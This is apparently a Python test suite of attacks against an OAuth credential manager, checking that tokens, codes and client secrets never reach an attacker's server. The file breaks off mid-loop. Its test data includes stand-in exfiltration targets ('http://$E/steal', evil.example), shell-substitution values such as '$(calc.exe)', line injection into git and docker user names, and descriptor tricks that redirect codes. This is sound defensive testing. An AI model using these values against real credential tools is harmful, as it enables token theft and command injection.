"""Attacks, one in each row, next to what must keep working.

A row of `ATTACKS` has the attacker, the attempt, the scene without the attack (the control), the attacker's changes to
it, and the allowed exit statuses of the attack. The control must succeed. The attack must end as stated, or be harmless
(`DONE` and `then`). Nothing in `hides` may reach the other server, an output, or an address for a browser.
To add an attack, add a row. `$H` is the provider, `$E` the attacker's server, `$W` the directory, `$T` the user's
input.
"""

import base64
import contextlib
import glob
import http.client
import json
import os
import re
import shlex
import shutil
import subprocess
import time
import unittest
import urllib.parse
from collections.abc import Callable
from dataclasses import dataclass, field, replace

from mock_server import ACCESS, CLIENT_SECRET, CODE, REFRESH, SECRETS, TOKEN, MockServer, consents, id_token
from program import ADA, BINARY, DONE, LOCKED, LOGIN_NEEDED, REFUSED, TIMEOUT, USAGE, ProgramTest, text_of
from service import Response, redirect, with_query
from tls import Authority

TYPED = "typed-by-mistake-77aa"
SECRET_FILE = ("--client-id", "client", "--client-secret-file", "$W/client-secret")
LOGIN = ("login", "notes", "--account", ADA)
INVALID, WRONG_ANSWER, NOT_ALLOWED = (USAGE,), (REFUSED,), (USAGE, REFUSED, LOCKED, LOGIN_NEEDED)


@dataclass(frozen=True)
class Scene:
    """The steps in order, up to the first that fails."""

    descriptor: str
    answers: dict = field(default_factory=dict)  # the provider's
    options: tuple = SECRET_FILE
    edit: str = ""  # the descriptor after adding the provider
    login: tuple = LOGIN
    after: Callable = None  # changes to files after the login
    commands: tuple = ()
    stdin: str = ""
    environment: dict = field(default_factory=dict)
    tls: bool = False
    shows: str = ""  # a text that the last output contains
    then: Callable = None  # a condition at the end


@dataclass(frozen=True)
class Attack:
    attacker: str
    tried: str
    control: Scene
    change: dict
    ends: tuple = INVALID
    hides: tuple = SECRETS
    says: str = r"(?m)^(credmgr|\S+:\d+:\d+): error: "

    @property
    def name(self):
        return "test_" + re.sub(r"\W+", "_", f"{self.attacker} {self.tried}".lower()).strip("_")


# Descriptors.
def code(authorization="$H", token=None, more="", grant="authorization_code", **keys):
    """Returns a descriptor; `keys` go into the endpoint `authorization`."""
    leg = "".join(f", {name}: {value}" for name, value in keys.items())
    url = authorization if "://" in authorization else f"http://{authorization}/authorize"
    token = f'  token: "http://{token or authorization}/token"\n' if grant == "authorization_code" else ""
    return f'provider: notes\ngrant: {grant}\nendpoints:\n  authorization: {{ url: "{url}"{leg} }}\n{token}{more}\n'


def implicit(more="", **keys):
    return code(grant="implicit", more=more, **keys)


def device(more=""):
    return ('provider: notes\ngrant: device_code\nendpoints:\n  device_authorization: "http://$H/device"\n'
            f'  token: "http://$H/token"\n{more}\n')


FRAGMENT = {"/authorize": consents(code=None, fragment=True, access_token=ACCESS, expires_in="3600")}


def answer(**more):
    return {"/token": {**TOKEN, **more}}


# Actions during a row, and conditions after it.
def ask(test, *arguments, **options):
    outcome = test.run_program(*map(test.fill, arguments), **options)
    return outcome.out


def nothing_is_said(test, outcome):
    test.assertEqual(outcome.out, "", "a credential was handed out")


# A provider that lies.
def steers_by_its_answer():
    kept = "response: { keep: [dc] }\n"
    header = (("header", "notes", "--url", "https://us1.api.notes.example/"),)
    stolen = (("header", "notes", "--url", "http://$E/steal"),)
    control = Scene(code(more=kept + 'hosts: ["{dc}.api.notes.example"]'), answers=answer(dc="us1"), commands=header,
                    shows="Bearer")
    for dc in (
        "$E/?", "$E/", "$E#", "$E?", "u@$E", "$E:80/", "x@$E/",
        "http://$E/?", "http://$E#",
    ):
        yield Attack("provider", f"a data center that is another address {dc}", control, {
            "answers": answer(dc=dc), "commands": stolen}, NOT_ALLOWED)
    yield Attack("provider", "a data center at a refresh", control, {
        "answers": {"/token": lambda server, request: {
            **TOKEN, "dc": "http://$E/?" if request.form_fields()["grant_type"] == "refresh_token" else "us1"}},
        "commands": (("refresh", "notes"), *stolen)}, NOT_ALLOWED)
    yield Attack("provider", "a data center in the redirect", replace(
        control, descriptor=code(response="{ keep: [dc] }", more='hosts: ["{dc}.api.notes.example"]'),
        answers={"/authorize": consents(dc="us1")}), {
        "answers": {"/authorize": consents(dc="http://$E/?")}, "commands": stolen}, NOT_ALLOWED)
    identity = '  identity: { url: "http://$H/me", response: { keep: [dc] } }\naccount: name\nhosts: ["{dc}.api.notes.example"]'
    yield Attack("provider", "a data center in the identity", replace(
        control, descriptor=code(more=identity), answers={"/me": {"name": ADA, "dc": "us1"}}), {
        "answers": {"/me": {"name": ADA, "dc": "http://$E/?"}}, "commands": stolen}, NOT_ALLOWED)
    whole = Scene(code(more='response: { keep: [instance_url] }\nhosts: ["{instance_url}"]'),
                  answers=answer(instance_url="https://eu1.notes.example"), shows="Bearer",
                  commands=(("header", "notes", "--url", "https://eu1.notes.example/"),))
    for url in (
        "https://u:p@evil.example",
    ):
        yield Attack("provider", f"an instance that is no plain address {url}", whole, {
            "answers": answer(instance_url=url), "commands": (("header", "notes", "--url", "https://evil.example/"),)},
            NOT_ALLOWED)
    yield Attack("descriptor", "all hosts below a data center", replace(
        control, descriptor=code(more='hosts: ["*.notes.example"]')), {"descriptor": code(more=kept + 'hosts: ["*.{dc}"]')})


def answers_badly():
    control = Scene(code())
    for name in ("code", "state"):
        def twice(server, request, name=name):
            asked = dict(request.query)
            return redirect(with_query(asked["redirect_uri"], [(name, "first"), ("code", CODE), ("state", asked["state"])]))
        yield Attack("provider", f"{name} twice", control, {
            "answers": {"/authorize": twice}, "login": (*LOGIN, "--timeout", "3s")}, (REFUSED, USAGE, LOGIN_NEEDED, 5))
    for kind in ("DPoP", "mac", "N_A", "", ["mac"], {"of": "mac"}):
        yield Attack("provider", f"a token of the type {kind}", Scene(code()), {"answers": answer(token_type=kind)}, WRONG_ANSWER)

    def claims(**change):
        def token(server, request):
            nonce = dict(server.requests("/authorize")[-1].query).get("nonce")
            own = {"iss": server.base, "aud": "client", "sub": "42", "nonce": nonce, "exp": int(time.time()) + 600,
                   "iat": int(time.time()), **change}
            return {**TOKEN, "id_token": id_token(**{name: value for name, value in own.items() if value is not None})}
        return {"/token": token, "/me": {"sub": "42", "name": ADA}}

    openid = 'nonce: true\nissuer: "http://$H"\nscope: [openid]\n'
    signed = Scene(code(more=openid), answers=claims())
    yield Attack("provider", "no ID token where a nonce was sent", signed, {"answers": {}}, WRONG_ANSWER)
    for name, change in (
        ("another nonce", {"nonce": "x"}), ("no signature", {"algorithm": "none"}),
        ("another issuer", {"iss": "https://evil.example"}),
        ("another audience", {"aud": "another-client"}), ("an expiry that is past", {"exp": 1}),
        ("two audiences without a party", {"aud": ["client", "another-client"]}),
        ("another authorized party", {"aud": ["client", "b"], "azp": "another-client"}),
    ):
        yield Attack("provider", f"an ID token with {name}", signed, {"answers": claims(**change)}, WRONG_ANSWER)
    who = '  identity: "http://$H/me"\naccount: name\n'
    yield Attack("provider", "an ID token of another person than the identity", replace(
        signed, descriptor=code(more=who + openid)), {"answers": claims(sub="43")}, WRONG_ANSWER)


def speaks_to_a_shell():
    page = {"device_code": "d", "user_code": "AAAA-BBBB", "verification_uri": "http://$H/activate", "expires_in": 60,
            "interval": 1}

    def harmless(test, _):
        for address in test.addresses:
            test.assertNotRegex(address, r"[$`'\"();|{}<>\\^]")

    for name, text in (("a substitution", "$(calc.exe)"), ("backticks", "`calc.exe`"), ("quotes", "a';calc.exe;'")):
        yield Attack("provider", f"{name} in the device page", Scene(
            device(), answers={"/device": {**page, "verification_uri_complete": "http://$H/activate?code=AAAA"}},
            then=harmless), {
            "answers": {"/device": {**page, "verification_uri_complete": f"http://$H/activate?code={text}"}}},
            (DONE, REFUSED))
    yield Attack("descriptor", "a substitution in a scope as it stands", Scene(
        code(more="scope: [read]", verbatim="[scope]"), then=harmless), {
        "descriptor": code(more='scope: ["$(calc.exe)"]', verbatim="[scope]")}, (DONE, USAGE))


# A stranger's descriptor.
def takes_secrets_to_a_page():
    page = 'device: { verification_uri_complete: "%s" }\n'
    control = Scene(device(page % "http://$H/activate?code={user_code}"))
    yield Attack("descriptor", "a device page on another host, edited in place", control, {
        "edit": device(page % "https://evil.example/?c={user_code}")})
    yield Attack("descriptor", "the client secret in the device page, edited in place", control, {
        "edit": device(page % "https://evil.example/?c={user_code}&s={client_secret}")})
    field = device().replace('"http://$H/device"', '{ url: "http://$H/device", response: { fields: { %s } } }')
    told = Scene(field % "user_code: [code, user_code]")
    for name in ("device_code", "ticket"):
        yield Attack("descriptor", f"the device code under the name {name} in the place of the person's", told, {
            "descriptor": field % f"device_code: [ticket, device_code], user_code: {name}"})
    plain = Scene(device())
    for tried, change in (("device code in the person's", {"user_code": "x-DEVICE-CODE-1"}),
                          ("client secret in the page", {"verification_uri": "http://$H/activate?s=" + CLIENT_SECRET})):
        yield Attack("provider", "the " + tried, plain, {"answers": {"/device": {
            "device_code": "DEVICE-CODE-1", "user_code": "WDJB", "verification_uri": "http://$H/activate", **change}}},
            WRONG_ANSWER, hides=("DEVICE-CODE-1", *SECRETS))


def shows_secrets():
    control = Scene(code(response="{ errors: { code: [trouble, error] } }"))
    for name in ("[x, code]", "copy"):
        yield Attack("provider", f"the code as an error {name}", control, {
            "answers": {"/authorize": consents(copy=f"a {CODE}")},
            "descriptor": code(response="{ errors: { code: %s, description: %s } }" % (name, name))}, WRONG_ANSWER)
    yield Attack("provider", "a token as an error", control, {
        "descriptor": code(more="response: { errors: { code: copy } }"),
        "answers": answer(copy=f"a {ACCESS} and {REFRESH}")}, WRONG_ANSWER)
    yield Attack("provider", "the code as the account's name", control, {
        "descriptor": code(response="{ keep: { w: code } }", more="account: w\n"), "login": ("login", "notes"),
        "commands": (("status",),)}, (DONE,))


def redirects_elsewhere():
    control = Scene(implicit(), answers=FRAGMENT, edit=implicit("title: Notes\n"))
    evil = "https://evil.example/cb"
    value = f'{{ r: {{ default: "{evil}" }}, v: {{ default: x }} }}'
    for name, descriptor in (
        ("as it is", implicit(f"redirect: {evil}\n")),
        ("by a variable", implicit(f'redirect: "{{r}}"\nvariables: {value}\n')),
        ("by a piece", implicit(f'redirect: "https://evil.example/{{v}}"\nvariables: {value}\n')),
        ("by an alternative", implicit(f'redirect: "{{v || \\"{evil}\\"}}"\nvariables: {{ v: {{ optional: true }} }}\n')),
        ("by a function", implicit('redirect: "{lowercase(r)}"\n' + f"variables: {value}\n")),
    ):
        yield Attack("descriptor", f"a redirect elsewhere {name}", control, {"edit": descriptor})
    own = replace(control, edit=implicit(parameters='{ client_id: "{client_id}", prompt: login }'))
    for name, parameters in (("redirect as PHP reads it", f'"redirect[uri": "{evil}"'), ("client", "client_id: another")):
        yield Attack("descriptor", f"another {name}", own, {"edit": implicit(parameters="{ %s }" % parameters)})


def widens_what_was_agreed():
    kept = '  refresh: "http://{api}/token"\nvariables: { api: { default: "$H" } }\nresponse: { keep: %s }\n'
    plain = code(more=kept % "[tenant]" + 'hosts: ["{api}"]\n')
    control = Scene(plain, answers=answer(tenant="t1", api="$E"), commands=(
        ("refresh", "notes"), ("header", "notes", "--url", "http://$H/api")))
    taken = code(more=kept % "{ api: api }" + 'hosts: ["{api}"]\n')
    yield Attack("descriptor", "a kept field of a variable's name, edited in place", control, {"edit": taken}, NOT_ALLOWED)
    for name, descriptor in (("token endpoint", code("$H", "$E", kept % "[tenant]")),
                             ("host", code(more=kept % "[tenant]" + 'hosts: ["$E"]\n')),
                             ("refresh endpoint", code(more=(kept % "[tenant]").replace("{api}", "$E")))):
        yield Attack("descriptor", f"another {name}, edited in place", control, {
            "edit": descriptor, "commands": (("refresh", "notes"), ("header", "notes", "--url", "http://$E/api"))})

    git = 'git: { hosts: ["$E"] }\n'
    yield Attack("descriptor", "a host of git becomes an endpoint", Scene(code(more=git), commands=(("refresh", "notes"),)), {
        "edit": code(more='  refresh: "http://$E/token"\n' + git)})
    tenant = 'variables: { tenant: { %s } }\n'
    fixed = code(more=tenant % "default: common").replace("/token", "/token?t={tenant}")
    yield Attack("descriptor", "a variable that is optional hides an endpoint", Scene(
        fixed, login=(*LOGIN, "--set", "tenant=contoso"), commands=(("refresh", "notes"),)), {
        "edit": fixed.replace("default: common", "optional: true").replace('token: "http://$H', 'token: "http://$E')})
    known = code(more='variables: { k: { secret: true } }\n%s')
    shown = Scene(known % "", options=(*SECRET_FILE, "--set", "k=@$W/client-secret"),
                  edit=known % "title: Notes\n", commands=(("exec", "notes", "--", "env"),), shows="NOTES_TOKEN")
    for name, change in (
        ("secret in the environment", "environment: { access_token: NOTES_TOKEN, k: OTHER_KEY }\n"),
        ("name for the token's variable", "environment: GITHUB_TOKEN\n"),
    ):
        for command in (("exec", "notes", "--", "env"), ("exec", "notes/k", "--", "env"), ("token", "notes", "--field", "k")):
            yield Attack("descriptor", f"another {name}, edited in place, for {' '.join(command)}", shown, {
                "edit": (known % change).replace("secret: true", "help: none"), "commands": (command,), "shows": ""},
                hides=(CLIENT_SECRET, REFRESH), says="changed after you added")
    secret = code(more='variables: { k: { %s } }\nextra_headers: { X-Key: "{k}" }\nhosts: [%s"$H"]\n')
    yield Attack("descriptor", "a secret is none any more", Scene(
        secret % ("secret: true", ""), options=(*SECRET_FILE, "--set", "k=@$W/client-secret"),
        commands=(("refresh", "notes"),)), {"edit": secret % ("help: none", '"{k}.evil.example", ')})
    bound = '%sresponse: { keep: { base: { path: base, pattern: "http://$H" }%s } }\nhosts: ["{base}"]\n'
    yield Attack("descriptor", "a field in other letters", Scene(
        code(more=bound % ("", "")), answers=answer(base="http://$H", other="http://$E"),
        commands=(("refresh", "notes"),)), {
        "edit": code(more=bound % ('  refresh: "{Base}/token"\n', ", Base: { path: other }"))})

    def elsewhere(test):
        """Restores the vault in a home with a different descriptor of the same name."""
        key = os.path.join(test.homes[-1], "vault/vault.key")
        test.credmgr("vault", "backup", test.fill("$W/backup"))
        test.new_home()
        test.file("notes.yaml", test.fill(code("$E")))
        test.credmgr("add-provider", test.fill("$W/notes.yaml"), "--client-id", "client")
        test.credmgr("vault", "restore", test.fill("$W/backup"), "--key-file", key)

    moved = Scene(code(), commands=(("refresh", "notes"),))
    yield Attack("descriptor", "the place of another one in a restored vault", moved, {
        "after": elsewhere, "commands": (("refresh", "notes"),)}, NOT_ALLOWED)
    own = code("$H", more='git: { hosts: ["$H"], username: x }\n').replace("provider: notes", "provider: gitlab")
    question = "protocol=%s\nhost=%s\n\n"
    login = ("login", "gitlab", "--account", ADA)
    shadow = Scene(own, login=login, commands=(("git-credential", "get"),), stdin=question % ("http", "$H"), shows=ACCESS)

    def removed(test):
        os.remove(os.path.join(test.homes[-1], "config/providers/gitlab.yaml"))

    yield Attack("descriptor", "a shipped one's hosts in the place of a removed one", shadow, {
        "after": removed, "stdin": question % ("https", "gitlab.com"), "shows": "", "then": nothing_is_said},
        (DONE, *NOT_ALLOWED))
    yield Attack("descriptor", "a shipped one's endpoints in the place of a removed one", replace(
        shadow, commands=(("refresh", "gitlab"),), stdin="", shows=""), {"after": removed}, NOT_ALLOWED)


def weakens_what_was_agreed():
    field = "response: { fields: { %s } }\n"
    signed, posted = (f"client: {{ authentication: client_secret_{way} }}\n" for way in ("jwt", "post"))
    harmless = 'title: Other\nexpiry: { margin: 9s }\nextra_headers: { X-Other: y }\n'
    controls = {}
    for name, before, after in (
        ("the refresh token as the token", "", field % "access_token: refresh_token"),
        ("the ID token as the token", "", field % "access_token: [id_token, access_token]"),
        ("the token as the refresh token", "", field % "refresh_token: access_token"),
        ("secrets of another object", "", "response: { within: other }\n"),
        ("a posted secret in the place of a signature", signed, posted),
        ("a token in the address", "", "header_style: { query: t }\n"),
        ("no proof key", "", "pkce: none\n"), ("a proof key in clear", "pkce: S256\n", "pkce: plain\n"),
        ("no state", "", "state: optional\n"),
        ("a refresh token in the address", "", '  refresh: { url: "http://$H/token", in_query: [refresh_token] }\n'),
        ("another client for a refresh", "", '  refresh: "http://$H/token?client_id=another"\n'),
        ("another meaning of a refusal", "", "response: { errors: { success: [invalid_grant] } }\n"),
    ):
        if before not in controls:
            controls[before] = Scene(code(more=before), edit=code(more=before + harmless), commands=(("refresh", "notes"),))
        yield Attack("descriptor", f"{name}, edited in place", controls[before], {"edit": code(more=after)})
    control = Scene(code(more="pkce: none\n"), edit=code(more="pkce: S256\n"))
    yield Attack("descriptor", "the implicit grant, edited in place", control, {
        "edit": code().replace("authorization_code", "[implicit, authorization_code]")})


def brings_an_export():
    def exported(test):
        with contextlib.suppress(FileNotFoundError):
            os.remove(test.fill("$W/export.json"))
        test.credmgr("vault", "export", "--plain", "--plain", test.fill("$W/export.json"))
        test.new_home()

    control = Scene(code(), options=(*SECRET_FILE, "--yes"), after=exported, commands=(
        ("vault", "import", "--plain", "$W/export.json"), ("refresh", "notes")))
    for name, more in (("an issuer elsewhere", "issuer: https://honest.example\n"),
                       ("a device page elsewhere", "device: { hosts: [evil.example] }\n")):
        yield Attack("descriptor", f"{name} in an export", control, {"descriptor": code(more=more)}, says="requires your consent")

    def apart(test):
        exported(test)
        path = test.fill("$W/export.json")
        with open(path, encoding="utf-8") as file:
            whole = json.load(file)
        for name, parts in (("export", {**whole, "descriptors": {}}), ("later", {**whole, "records": []})):
            test.file(f"{name}.json", json.dumps(parts))

    yield Attack("descriptor", "a registration and its descriptor in two exports", control, {
        "after": apart, "commands": (*control.commands[:1], ("vault", "import", "--plain", "--replace", "$W/later.json"),
                                     control.commands[1])}, says="was added with another descriptor|changed after you added")

    def elsewhere(variables):
        """Changes the account's variables in an export, as its sender could."""
        def change(test):
            exported(test)
            path = test.fill("$W/export.json")
            with open(path, encoding="utf-8") as file:
                whole = json.load(file)
            for record in whole["records"]:
                if record["kind"] == "credential":
                    record["value"]["variables"] = {name: test.fill(text) for name, text in variables.items()}
            test.file("export.json", json.dumps(whole))
        return change

    own = 'variables: { host: { default: "$H" } }\n'
    used = code(token="{host}", more=own).replace("$H", "$H", 1)
    yield Attack("descriptor", "another host in an account of an export", replace(
        control, descriptor=used, after=elsewhere({"host": "$H"})), {"after": elsewhere({"host": "$E"})},
        says="would send")


def writes_lines():
    more = '%s: { hosts: ["$H"], username: "%s" }\n'
    asked = Scene(code(more=more % ("git", "x")), commands=(("git-credential", "get"),), stdin="protocol=http\nhost=$H\n\n",
                  shows=ACCESS)
    for tool in ("git", "docker"):
        line = code(more=more % (tool, r"x\nprotocol=http\nhost=$E"))
        yield Attack("descriptor", f"a line of its own in the user name of {tool}", asked, {"descriptor": line})
        yield Attack("descriptor", f"a line of its own in the user name of {tool}, edited in place", asked, {
            "edit": line, "commands": (("refresh", "notes"),)})


def exhausts_the_machine():
    def wide(value, count):
        parameters = "".join(f'      x{number}: "{value}"\n' for number in range(count))
        return ('provider: notes\ngrant: authorization_code\nvariables: { s: { default: "%s" } }\nendpoints:\n'
                '  authorization: "http://$H/authorize"\n  token:\n    url: "http://$H/token"\n    parameters:\n%s' % (
                    "s" * 60000, parameters))

    def nested(depth):
        return "s" if depth == 0 else f"hex({nested(depth - 1)}, {nested(depth - 1)})"

    control = Scene(wide("{s}", 3))
    for name, value, count in (
        ("many parameters", "{s}", 2000), ("many computed parameters", "{hex(sha256(sha256(sha256(s))))}", 2000),
        ("parameters that are long together", "{s}", 100), ("functions in each other", "{%s}" % nested(12), 1),
        ("a value that doubles", "{%s}" % nested(8), 1),
    ):
        yield Attack("descriptor", name, control, {"descriptor": wide(value, count)})


def borrows_from_another():
    issuer = 'issuer: "http://%s"\n'
    control = Scene(code(more=issuer % "$H"), answers={"/authorize": consents(iss="http://$H")})
    yield Attack("descriptor", "the issuer of another server", control, {"descriptor": code("$E", "$E", issuer % "$H")})
    yield Attack("descriptor", "the issuer of another server, edited in place", control, {"edit": code(more=issuer % "$E")})
    yield Attack("descriptor", "the page of a shipped provider", Scene(code()), {
        "descriptor": code("https://github.com/login/oauth/authorize", "$E")}, hides=(*SECRETS, "github.com/login"))
    yield Attack("provider", "an answer of another issuer", Scene(code(), answers={"/authorize": consents(iss="http://$H")}), {
        "answers": {"/authorize": consents(iss="http://$E")}}, WRONG_ANSWER)

    def other(token="$H", more="", legs="", page="http://$H/authorize"):
        text = code(page, token, legs + more).replace("provider: notes", "provider: other")
        return lambda test: test.file("other.yaml", test.fill(text))

    add, login = ("add-provider", "$W/other.yaml", *SECRET_FILE), ("login", "other", "--account", ADA)
    beside = Scene(code(), after=other(legs='  identity: "http://$H/me"\naccount: name\n', more='hosts: ["$H"]\n'),
                   answers={"/me": {"name": ADA}}, commands=(add, login))
    for name, legs, more in (
        *((kind, f'  {kind}: "http://$E/x"\n', "") for kind in (
            "identity", "revocation", "introspection", "refresh", "token_exchange", "registration")),
        ("hosts", "", 'hosts: ["$E"]\n'), ("hosts below a name", "", 'hosts: ["*.evil.example"]\n'),
        ("git", "", 'git: { hosts: ["$E"], username: x }\n'), ("docker", "", 'docker: { hosts: ["$E"] }\n'),
        ("kubectl", "", 'kubectl: { hosts: ["$E"] }\n'),
    ):
        yield Attack("descriptor", f"the page of another provider with its own {name}", beside, {
            "after": other(legs=legs, more=more)}, says="" if name == "refresh" else "requires your consent:\n.*belongs to")
    # The user agrees only once, and hosts of the page's own provider need no agreement.
    extra = replace(beside, after=other(more='hosts: ["$H", "*.corp.example"]\n'), commands=((*add, "--yes"), login))
    yield Attack("descriptor", "a host of another provider as a server that gets its codes", replace(
        extra, descriptor=code(more='hosts: ["$H", "$E"]\n')), {"after": other("$E"), "commands": (add, login)},
        says="requires your consent")
    google = code("https://accounts.google.com/o/oauth2/v2/auth", "storage.googleapis.com/bucket")
    google = google.replace("http://storage", "https://storage")
    yield Attack("descriptor", "a bucket at the hosts of a shipped provider", Scene(code(), edit=code()), {
        "descriptor": google}, hides=(*SECRETS, "accounts.google.com/o"), says="requires your consent")
    keys = """provider: notes\ngrant: api_key\nkey: { page: "%s" }\nendpoints: { identity: "http://$H/me" }\naccount: name\n"""
    ask = Scene(keys % "http://$H/keys", options=(), login=("providers", "notes"))
    yield Attack("descriptor", "the page of a shipped provider's keys", ask, {
        "descriptor": (keys % "https://platform.openai.com/api-keys").replace("http://$H/me", "https://evil.example/me")},
        says='requires your consent:\n.*belongs to "openai"')
    yield Attack("descriptor", "the git host of a shipped provider", ask, {
        "descriptor": (keys % "http://$H/keys").replace("http://$H/me", "https://evil.example/me")
        + "git: { hosts: [github.com], username: x }\n"}, says="requires your consent:\n.*github")
    yield Attack("descriptor", "the page of a shipped provider's keys, whose servers are elsewhere", ask, {
        "descriptor": (keys % "https://platform.claude.com/settings/keys").replace("http://$H/me", "https://evil.example/me")},
        says='requires your consent:\n.*belongs to "')
    yield Attack("descriptor", "the page of another provider that was added", beside, {
        "after": other("$E"), "commands": ((*add, "--yes"), login)}, says="its codes would go to")
    own = replace(beside, after=other(more="redirect: http://127.0.0.1/callback/other\n", page="http://$E/authorize", token="$E"),
                  commands=(add,))
    for path in ("./notes", "%2Fnotes", "%6eotes", "Notes", "notes;x", "x/../notes", "notes/x"):
        yield Attack("descriptor", f"the redirect of another provider as {path}", own, {
            "after": other(more=f"redirect: http://127.0.0.1/callback/{path}\n", page="http://$E/authorize", token="$E"),
            "commands": (add, login)}, says="use the same redirect")
    yield Attack("descriptor", "an issuer that is on neither of its servers", Scene(
        code("https://login.notes.example/authorize", "$H", issuer % "$H"), login=("providers", "notes")), {
        "descriptor": code("https://login.notes.example/authorize", "$H", issuer % "$E")}, says="requires your consent:\n  its issuer")

    page = {"device_code": "d", "user_code": "AAAA-BBBB", "expires_in": 60, "interval": 1}
    shown = (*SECRETS, "enter-it-here", "login/device")
    control = Scene(device())
    for name, descriptor, uri in (
        ("another server's", device(), "http://$E/enter-it-here"),
        ("a shipped provider's", device('device: { hosts: ["*.github.com"] }'), "https://www.github.com/login/device"),
    ):
        for key in ("verification_uri", "verification_uri_complete"):
            device_page = {**page, "verification_uri": "http://$H/activate", key: uri}
            yield Attack("provider", f"{name} page for a device's code as {key}", control, {
                "descriptor": descriptor, "options": (*SECRET_FILE, "--yes"), "answers": {"/device": device_page}},
                WRONG_ANSWER, hides=shown)
    agreed = Scene(device("device: { hosts: [github.com] }"), options=(*SECRET_FILE, "--yes"), answers={
        "/device": {**page, "verification_uri": "https://github.com/login/device"}})
    yield Attack("descriptor", "a shipped provider's device page to which nobody agreed", agreed, {
        "options": SECRET_FILE}, hides=shown, says="belongs to \"github")
    yield Attack("descriptor", "another host of the device page, edited in place", control, {
        "edit": device('device: { hosts: ["$E"] }'),
        "answers": {"/device": {**page, "verification_uri": "http://$E/enter-it-here"}}}, hides=shown)


def takes_a_scheme():
    def another(is_taken):
        def write(test):
            test.file("app.yaml", test.fill(code(more="redirect: my.app:/cb\n").replace("provider: notes", "provider: app")))
            if is_taken:
                path = os.path.join(test.folder, ".config/mimeapps.list")
                os.makedirs(os.path.dirname(path), exist_ok=True)
                test.file(path, "[Default Applications]\nx-scheme-handler/my.app=my-app.desktop\n")
        return write

    yield Attack("descriptor", "the scheme of another application", Scene(
        code(), after=another(False), commands=(("add-provider", "$W/app.yaml", *SECRET_FILE),)), {"after": another(True)},
        says="my-app.desktop")
    open_state = Scene(code(more='state: optional\nredirect: "{r}"\nvariables: { r: { default: "http://127.0.0.1/cb" } }\n'))

    def hands_over(server, request):
        """Opens an address with the scheme, as any page can."""
        for path in glob.glob(server.fill("$W/.local/share/applications/credmgr-login-*.desktop")):
            words = shlex.split(re.search("Exec=(.*) %u", text_of(path))[1])
            subprocess.run([*words, f"vscode://x/y?code={CODE}"], timeout=TIMEOUT, capture_output=True, check=False)
        return {}

    yield Attack("web page", "an answer without a state at a scheme", open_state, {
        "answers": {"/authorize": hands_over}, "login": (*LOGIN, "--set", "r=vscode://x/y", "--timeout", "3s")},
        says="without .state.")
    yield Attack("web page", "an answer without a state at a scheme of the registration", open_state, {
        "options": (*SECRET_FILE, "--set", "r=vscode://x/y"), "answers": {"/authorize": hands_over}}, says="without .state.")

    def posted(origin):
        """Sends the browser to the redirect with a form, as a page can."""
        def page(server, request):
            back = urllib.parse.urlsplit(dict(request.query)["redirect_uri"])
            connection = http.client.HTTPConnection(back.netloc, timeout=TIMEOUT)
            fields = {"Origin": server.fill(origin), "Content-Type": "application/x-www-form-urlencoded",
                      "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
            connection.request("POST", back.path, f"code={CODE}", {name: text for name, text in fields.items() if text})
            connection.getresponse().read()
            connection.close()
            return {}
        return {"/authorize": page}

    for origin in ("null", "", "http://$E"):
        yield Attack("web page", f"a form of the origin {origin or 'that is not told'}", Scene(
            code(more="state: optional\npkce: none\n"), answers=posted("http://$H")), {
            "answers": posted(origin), "login": (*LOGIN, "--timeout", "3s")}, (LOGIN_NEEDED,))


def weakens_the_proof():
    public = ("--client-id", "client")

    def proved(test, _):
        asked = dict(test.mock.requests("/authorize")[-1].query)
        test.assertEqual(asked.get("code_challenge_method"), "S256", asked)
        test.assertNotIn(test.mock.requests("/token")[-1].form_fields()["code_verifier"], asked.values())

    control = Scene(code(), options=public, then=proved)
    for method in ("plain", "none"):
        yield Attack("descriptor", f"the proof key {method} of a public client", control, {
            "descriptor": code(more=f"pkce: {method}\n")}, (DONE,))
    for rename in ("code_challenge: x", "code_challenge_method: y", "code_challenge: x, code_challenge_method: y"):
        yield Attack("descriptor", f"another name of the proof key {rename}", control, {
            "descriptor": code(rename=f"{{ {rename} }}")})

    def edited(more):
        return lambda test: test.file(f"{test.homes[-1]}/config/providers/notes.yaml", test.fill(code(more=signed + more)))

    def for_its_server(test, _):
        for request in test.mock.requests("/token"):
            claims = request.form_fields()["client_assertion"].split(".")[1]
            audience = json.loads(base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4)))["aud"]
            test.assertTrue(audience.startswith(test.fill("http://$H")), audience)

    signed = "client: { authentication: client_secret_jwt }\n"
    control = Scene(code(more=signed), commands=(("refresh", "notes"),), then=for_its_server)
    claims = 'assertion: { claims: { aud: "http://$E" } }\n'
    yield Attack("descriptor", "an assertion for another server", control, {"descriptor": code(more=signed + claims)})
    yield Attack("descriptor", "an assertion for another server, edited in place", control, {"after": edited(claims)})
    yield Attack("descriptor", "an assertion for another issuer, edited in place", control, {
        "after": edited('issuer: "http://$E"\n')}, (DONE, USAGE))


# Another user of this machine, and anyone who watches the screen.
def writes_files():
    git = code(more='git: { hosts: ["$H"], username: x }\ndocker: { hosts: ["$H"] }\n')
    question = "protocol=http\nhost=%s\n\n"
    asked = Scene(git, commands=(("git-credential", "get"),), stdin=question % "$H", shows=ACCESS)

    def index(test):
        for name in ("git-hosts", "docker-hosts"):
            path = os.path.join(test.homes[-1], "config", name)
            text = text_of(path) if os.path.exists(path) else ""
            test.file(path, text + test.fill("host\t$E\tnotes\tx\n"))

    yield Attack("local user", "a line in the index of git's hosts", asked, {
        "after": index, "stdin": question % "$E", "shows": "", "then": nothing_is_said}, (DONE,), says="")
    docker = replace(asked, commands=(("docker-credential", "get"),), stdin="$H")
    yield Attack("local user", "a line in the index of docker's hosts", docker, {
        "after": index, "stdin": "$E", "shows": ""}, (1,), says="")

    def rules(test):
        test.credmgr("use", "notes", ADA, "--in", "/")

    def changed(name, change):
        def after(test):
            rules(test)
            change(os.path.join(test.homes[-1], name))
        return {"after": after}

    def linked(path):
        os.rename(path, path + ".real")
        os.symlink(path + ".real", path)
        os.lchown(path, 12345, 12345)

    read = Scene(code(), after=rules, commands=(("refresh", "notes"), ("token", "notes")), shows=ACCESS)
    changes = [("that others can write", lambda path: os.chmod(path, 0o777))]
    # Only the superuser can change owners. In a container with fewer users, `nobody` represents those outside.
    if text_of("/proc/self/uid_map").split() == ["0", "0", "4294967295"] and os.geteuid() == 0:
        changes += [("of another user", lambda path: os.chown(path, 12345, 12345)),
                    ("of nobody", lambda path: os.chown(path, 65534, 65534)), ("behind a link of another user", linked)]
    for name in ("config", "config/providers", "config/providers/notes.yaml", "config/accounts.yaml"):
        for what, change in changes:
